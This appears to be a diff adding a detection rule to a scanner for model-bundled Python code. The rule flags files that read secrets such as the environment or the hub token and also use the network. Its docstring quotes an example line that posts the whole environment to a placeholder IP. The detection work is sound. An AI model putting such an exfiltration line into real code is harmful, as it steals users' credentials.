@@ -1,0 +1,64 @@
+"""Python code that comes with the model takes what is secret to the user, and uses the network.
+
+What it finds:
+    A file that, when it is imported, constructed or used, both takes secrets (the whole environment, private keys and
+    credentials of well-known places, the token of the hub) and uses the network; or that puts a secret variable of the
+    environment (``HF_TOKEN``) into an address or a body that it sends. Headers, by which one's own service is asked, do not
+    count.
+
+Why it matters:
+    Tokens and keys are what code in a model is most often after: with them others publish in your name.
+
+Example:
+    ``requests.post('http://198.51.100.1/', json=dict(os.environ))`` in ``__init__``.
+
+Remedy:
+    Do not run this code. Where it has run, withdraw the tokens and keys of that machine.
+
+What it cannot see:
+    Secrets in places that are not well known; names that only come about while the code runs; a secret that one file
+    takes and another sends.
+
+References:
+    MITRE ATT&CK T1552, T1567 ; CWE-200, CWE-506.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from openvet.checks._check import Context
+from openvet.checks.python._uses import uses
+from openvet.core.finding import Finding
+from openvet.core.location import Location
+from openvet.core.rule import Confidence, Rule, Severity
+
+RULE = Rule(
+    id="python/sends-secrets",
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    since="0.1.0",
+    cwe=(200, 506),
+    needs=("python", "notebook"),
+)
+
+_WHEN = {"import": "when it is imported", "construction": "when one of its classes is constructed or loaded",
+         "inference": "when the model is used"}  # fmt: skip
+_MOST = 20
+
+
+def check(ctx: Context) -> Iterator[Finding]:
+    """One finding for each secret that is taken in a file that uses the network."""
+    read = [(program, use) for program, use, _ in uses(ctx) if use.when in _WHEN]
+    senders = {program.location.place for program, use in read if use.capability == "network"}
+    told = 0
+    for program, use in read:
+        if use.capability != "secret" or program.location.place not in senders or told >= _MOST:
+            continue
+        told += 1
+        yield ctx.finding(
+            Location(program.location.place, line=use.line, pointer=program.location.pointer),
+            f"{use.detail} and uses the network {_WHEN[use.when]}",
+            "Do not run this code; where it has run, withdraw the tokens and keys of that machine.",
+            evidence={"callable": use.name, "when": use.when, "detail": use.detail},
+        )
